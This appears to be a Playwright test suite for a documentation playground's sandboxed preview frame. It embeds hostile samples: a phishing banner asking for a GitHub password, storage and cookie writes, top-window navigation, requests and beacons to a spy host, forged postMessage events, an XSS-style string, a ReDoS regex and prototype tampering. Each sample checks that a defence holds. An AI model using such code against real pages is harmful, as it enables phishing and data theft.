import type {FrameLocator, Locator, Page} from '@playwright/test';
import {
  expect,
  axeViolations,
  hashOf,
  openEditor,
  previewFrame,
  replaceCode,
  editorStatus,
  firstCompile,
  inPreview,
  scaled,
  startInColorMode,
} from './fixtures';
import {expectNothingReached, views} from './preview-helpers';
import {test, type Spy} from './spy';

// Reader code (an edited example, a shared /playground/ link) runs only in a
// sandboxed frame with an opaque origin and a CSP that blocks every request:
// it reaches neither the page, nor its storage, nor another server.

/** Code that tries, as soon as it runs and again when it renders, everything a hostile link would. */
const hostile = (spyOrigin: string) => `import {html} from 'react-strict-dom';

function attack(when: string) {
  const tries: Array<() => unknown> = [
    () => localStorage.setItem('pwned', when),
    () => sessionStorage.setItem('pwned', when),
    () => (document.cookie = 'pwned=' + when),
    () => (parent.document.title = 'pwned'),
    () =>
      parent.document.body.prepend(
        Object.assign(document.createElement('div'), {
          id: 'pwned-banner',
          textContent: 'Session expired: enter your GitHub password',
        }),
      ),
    () => (top!.location.href = '${spyOrigin}/top-' + when),
    () => window.open('${spyOrigin}/popup-' + when),
    () => fetch('${spyOrigin}/fetch-' + when).catch(() => undefined),
    () => (new Image().src = '${spyOrigin}/image-' + when),
    () => navigator.sendBeacon('${spyOrigin}/beacon-' + when, 'data'),
    () => new WebSocket('${spyOrigin.replace('http', 'ws')}/socket-' + when),
    () => parent.postMessage({type: 'console', level: 'error', text: 'FORGED ' + when}, '*'),
    () => parent.postMessage({type: 'rsd-preview-hello', nonce: 'guess'}, '*'),
  ];
  for (const attempt of tries) {
    try {
      attempt();
    } catch {
      // Refused: the point.
    }
  }
  document.title = 'pwned';
}

attack('load');

export default function Hostile() {
  attack('render');
  return <html.p>Hostile preview rendered</html.p>;
}
`;

/** What the page looks like to a reader, to compare before and after the code ran. */
async function pageState(page: Page) {
  return page.evaluate(() => ({
    title: document.title,
    url: location.href.replace(/#.*/, ''),
    storage: localStorage.getItem('pwned') ?? sessionStorage.getItem('pwned'),
    cookie: document.cookie.includes('pwned'),
    banner: document.getElementById('pwned-banner') !== null,
  }));
}

async function expectUntouched(
  page: Page,
  spy: Spy,
  before: Awaited<ReturnType<typeof pageState>>,
) {
  // Time for anything the code sent to arrive: a request that is not refused leaves
  // unannounced, so only a wait can show that none did.
  await page.waitForTimeout(1500);
  expect(await pageState(page)).toEqual({...before, storage: null, cookie: false, banner: false});
  expect(page.context().pages(), 'windows').toHaveLength(1);
  expectNothingReached(spy, 'the hostile code');
}

const consolePanel = (scope: Page | Locator) => scope.getByRole('log', {name: 'Console'});
/** The editor's status line: errors, and why a preview stopped. */
const status = (scope: Page | Locator) => scope.locator('[data-live-editor]').getByRole('status');

test.describe('a hostile shared link', () => {
  for (const view of views) {
    test(`renders in a frame with an opaque origin and changes nothing outside it (${view})`, async ({
      page,
      spy,
    }) => {
      await page.goto('playground/');
      const before = await pageState(page);
      await page.goto(
        `playground/#${hashOf({'Hostile.tsx': hostile(spy.origin)})}${view === 'native' ? '&view=native' : ''}`,
      );
      const frame = previewFrame(page);
      await expect(frame.getByText('Hostile preview rendered')).toBeVisible({
        timeout: firstCompile,
      });
      expect(await frame.locator('body').evaluate(() => self.origin)).toBe('null');
      expect(await page.evaluate(() => location.hash)).not.toBe('');
      await expectUntouched(page, spy, before);
      await expect(consolePanel(page)).not.toContainText('FORGED');
    });
  }
});

test.describe('hostile code typed into an example', () => {
  test('renders in the frame and changes nothing outside it', async ({page, spy}) => {
    const figure = await openEditor(page, 'api/css/create/', 'HoverButton');
    const before = await pageState(page);
    await replaceCode(page, figure, hostile(spy.origin));
    // The first compile loads the compiler.
    await inPreview(
      (timeout) =>
        expect(previewFrame(figure).getByText('Hostile preview rendered')).toBeVisible({timeout}),
      firstCompile,
    );
    await expectUntouched(page, spy, before);
    await expect(page.getByRole('heading', {level: 1})).toHaveText('css.create');
  });
});

test.describe('the console panel', () => {
  test.use({allowedConsoleErrors: ['nobody caught this']});

  test('shows what the code logs, as text, with levels and repeat counts; forged messages never show', async ({
    page,
  }) => {
    const code = `import {html} from 'react-strict-dom';

console.log('<img src=x onerror=alert(1)>');
console.info('count', 1, {a: [1, 2, {deep: {deeper: true}}]}, new Error('kept message'));
console.warn('twice');
console.warn('twice');
console.debug(new Map([['k', 1]]), Symbol('s'), 10n);
Promise.reject(new Error('nobody caught this'));

export default function Logs() {
  return <html.p>Logged</html.p>;
}
`;
    await page.goto(`playground/#${hashOf({'Logs.tsx': code})}`);
    await expect(previewFrame(page).getByText('Logged')).toBeVisible({timeout: firstCompile});
    const panel = consolePanel(page);
    await expect(panel).toContainText('<img src=x onerror=alert(1)>');
    await expect(panel.locator('img')).toHaveCount(0);
    await expect(panel).toContainText('count 1 {a: [1, 2, {…}]} Error: kept message');
    await expect(panel.getByRole('listitem').filter({hasText: 'twice'})).toHaveCount(1);
    await expect(panel.getByLabel('2 times')).toBeVisible();
    await expect(panel).toContainText('Map(1) {"k" => 1} Symbol(s) 10n');
    await expect(panel).toContainText('Uncaught (in promise) Error: nobody caught this');
    await expect(panel).toHaveAttribute('aria-live', 'polite');
    await expect(panel).toHaveAttribute('tabindex', '0');

    // Messages posted to the page by anyone but the frame's port are dropped.
    await page.evaluate(() => {
      window.postMessage({type: 'console', level: 'error', text: 'FORGED'}, '*');
      window.postMessage({type: 'rsd-preview-hello', nonce: 'guess'}, '*');
    });
    await page.waitForTimeout(500);
    await expect(panel).not.toContainText('FORGED');

    // A new run starts a clean console.
    await replaceCode(page, page, code.replace(/console[^\n]*\n|Promise[^\n]*\n/g, ''));
    await expect(panel).toContainText('Nothing logged in this run.');
  });
});

test.describe('runaway code', () => {
  test.use({allowedConsoleErrors: ['ran for more than']});

  test('an endless loop is stopped by the loop guard, and the page stays usable', async ({
    page,
  }) => {
    const figure = await openEditor(page, 'api/css/create/', 'HoverButton');
    await replaceCode(page, figure, `export default function Loop() {\n  while (true) {}\n}\n`);
    await expect(status(figure)).toContainText('ran for more than', {
      timeout: scaled(15_000),
    });
    await expect(previewFrame(figure).getByRole('button', {name: 'Save changes'})).toBeVisible();
    await figure.getByRole('button', {name: 'Reset'}).click();
    await expect(editorStatus(figure)).toHaveAttribute('data-live-editor', 'rendered');
  });

  test('a timer that hogs the processor is removed by the watchdog; Stop and Run work', async ({
    page,
  }) => {
    test.setTimeout(scaled(60_000));
    const hog = `import {html} from 'react-strict-dom';

// Catastrophic backtracking: no loop for the loop guard to stop.
setTimeout(() => /^(a+)+$/.test('a'.repeat(40) + '!'), 1000);

export default function Hog() {
  return <html.p>Hogging soon</html.p>;
}
`;
    await page.goto(`playground/#${hashOf({'Hog.tsx': hog})}`);
    // Asked of the page, not the frame: a busy frame cannot answer the test either.
    await expect(editorStatus(page)).toHaveAttribute('data-live-editor', 'rendered', {
      timeout: firstCompile,
    });
    // Silent for watchdog.hangAfterMs (10 s) after the hog starts, 1 s after the render.
    await expect(status(page)).toContainText('stopped answering', {timeout: scaled(20_000)});
    await expect(page.locator('[data-preview-frames] iframe')).toHaveCount(0);
    // The page still answers.
    await expect(page.getByRole('heading', {level: 1})).toHaveText('Playground');

    await replaceCode(
      page,
      page,
      hog.replace(/setTimeout[^\n]*\n/, '').replace('Hogging soon', 'Calm'),
    );
    await inPreview(
      (timeout) => expect(previewFrame(page).getByText('Calm')).toBeVisible({timeout}),
      scaled(5_000),
    );
    await page.getByRole('button', {name: 'Stop', exact: true}).click();
    await expect(page.locator('[data-preview-frames] iframe')).toHaveCount(0);
    await expect(status(page)).toContainText('Preview stopped');
    await expect(page.getByRole('button', {name: 'Auto-run'})).toHaveAttribute(
      'aria-pressed',
      'false',
    );
    await page.getByRole('button', {name: 'Run', exact: true}).click();
    await inPreview(
      (timeout) => expect(previewFrame(page).getByText('Calm')).toBeVisible({timeout}),
      scaled(5_000),
    );
  });

  test('a frame that navigates itself is dropped and the reader told', async ({page}) => {
    const code = `import {html} from 'react-strict-dom';

setTimeout(() => (location.href = 'about:blank'), 200);

export default function Away() {
  return <html.p>Leaving</html.p>;
}
`;
    await page.goto(`playground/#${hashOf({'Away.tsx': code})}`);
    await expect(status(page)).toContainText('left its page', {
      timeout: firstCompile,
    });
    await expect(page.locator('[data-preview-frames] iframe')).toHaveCount(0);
  });
});

test.describe('a preview that answers but never renders', () => {
  // React's own failures: its root's fiber sets `type`, which only a getter now has, and it
  // calls through Function.prototype.call.
  test.use({allowedConsoleErrors: ['which has only a getter', 'is not a function']});

  test('is removed after the render limit, and the reader told why', async ({page}) => {
    test.setTimeout(90_000);
    // React cannot render past this; the frame's runtime and channel took their own at start-up.
    const code = `import {html} from 'react-strict-dom';

// P1 of #47: what the runtime might read or call at event time, replaced. It took its
// own of each before this code ran; React has no such luck.
for (const name of ['type', 'data', 'then', 'toJSON']) {
  Object.defineProperty(Object.prototype, name, {configurable: true, get: () => 'console'});
}
Array.prototype.push = () => 0;
Array.prototype.splice = () => [];
Reflect.apply = () => undefined;
MessagePort.prototype.postMessage = () => undefined;
(window as unknown as {JSON: unknown}).JSON = undefined;
(Function.prototype as unknown as {call: unknown}).call = undefined;

export default function Broken() {
  return <html.p>Never shown</html.p>;
}
`;
    await page.goto(`playground/#${hashOf({'Broken.tsx': code})}`);
    await expect(status(page)).toContainText('did not render within', {
      timeout: firstCompile + 30_000,
    });
    await expect(page.locator('[data-preview-frames] iframe')).toHaveCount(0);
    await expect(page.getByRole('log', {name: 'Console'})).not.toContainText('console');
  });
});

test.describe('the frame looks like the page', () => {
  test("its height follows a 1,500 px tall preview, and it follows the site's colour mode", async ({
    page,
  }) => {
    const tall = `import {css, html} from 'react-strict-dom';

const styles = css.create({tall: {height: 1500, backgroundColor: 'rgb(0, 128, 0)'}});

export default function Tall() {
  return <html.div style={styles.tall}>Tall</html.div>;
}
`;
    await page.goto(`playground/#${hashOf({'Tall.tsx': tall})}`);
    const frame = previewFrame(page);
    await expect(frame.getByText('Tall')).toBeVisible({timeout: firstCompile});
    const iframe = page.locator('[data-preview-frames] iframe[data-state="shown"]');
    await expect.poll(() => iframe.evaluate((el) => el.getBoundingClientRect().height)).toBe(1500);
    await expect(frame.locator('html')).toHaveAttribute('data-theme', 'light');

    const textColour = (scope: FrameLocator) =>
      scope.locator('html').evaluate((el) => getComputedStyle(el).color);
    const light = await textColour(frame);
    // System (light here), then light, then dark.
    const toggle = page.getByRole('button', {name: /Switch between dark and light mode/});
    await toggle.click();
    await toggle.click();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    await expect(frame.locator('html')).toHaveAttribute('data-theme', 'dark');
    expect(await textColour(frame)).not.toBe(light);
    expect(await textColour(frame)).toBe(
      await page.locator('[data-preview-frames]').evaluate((el) => getComputedStyle(el).color),
    );
  });
});

test.describe('a link whose hash cannot be read', () => {
  test('says so and shows the starter', async ({page}) => {
    await page.goto('playground/#not-a-valid-link');
    await expect(page.getByRole('alert')).toContainText('could not be read');
    await expect(previewFrame(page).getByRole('button')).toBeVisible({timeout: firstCompile});
  });
});

test.describe('accessibility with an editor open', () => {
  for (const mode of ['light', 'dark'] as const) {
    test(`axe finds no WCAG 2.2 AA violation on api/css/create/ with its editor open, ${mode} mode`, async ({
      page,
    }) => {
      await startInColorMode(page, mode);
      const figure = await openEditor(page, 'api/css/create/', 'HoverButton');
      await expect(previewFrame(figure).locator('html')).toHaveAttribute('data-theme', mode);
      await page.addStyleTag({content: '* { content-visibility: visible !important; }'});
      expect(await axeViolations(page), 'axe violations').toEqual([]);
    });
  }
});
